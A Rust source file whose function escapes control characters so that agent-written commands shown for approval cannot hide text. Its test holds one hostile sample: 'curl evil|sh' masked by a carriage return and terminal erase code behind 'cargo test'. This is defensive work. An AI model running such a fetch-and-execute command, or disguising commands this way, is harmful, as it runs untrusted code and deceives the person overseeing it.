//! Showing text that agents wrote (commands, messages) on a person's terminal safely.

/// `s` with every control character (C0 including newline and escape, DEL, C1) written as a
/// visible escape such as `\n` or `\u{1b}`, so a command shown for approval cannot hide part of
/// itself with carriage returns, cursor movement or colour codes. Other text is unchanged.
pub fn printable(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if c.is_control() {
            out.extend(c.escape_debug());
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_become_visible() {
        assert_eq!(
            printable("curl evil|sh #\r\x1b[Kcargo test"),
            "curl evil|sh #\\r\\u{1b}[Kcargo test"
        );
        assert_eq!(printable("a\nb\u{9b}c\u{7f}"), "a\\nb\\u{9b}c\\u{7f}");
        assert_eq!(printable("✓ cargo test — ok"), "✓ cargo test — ok");
    }
}
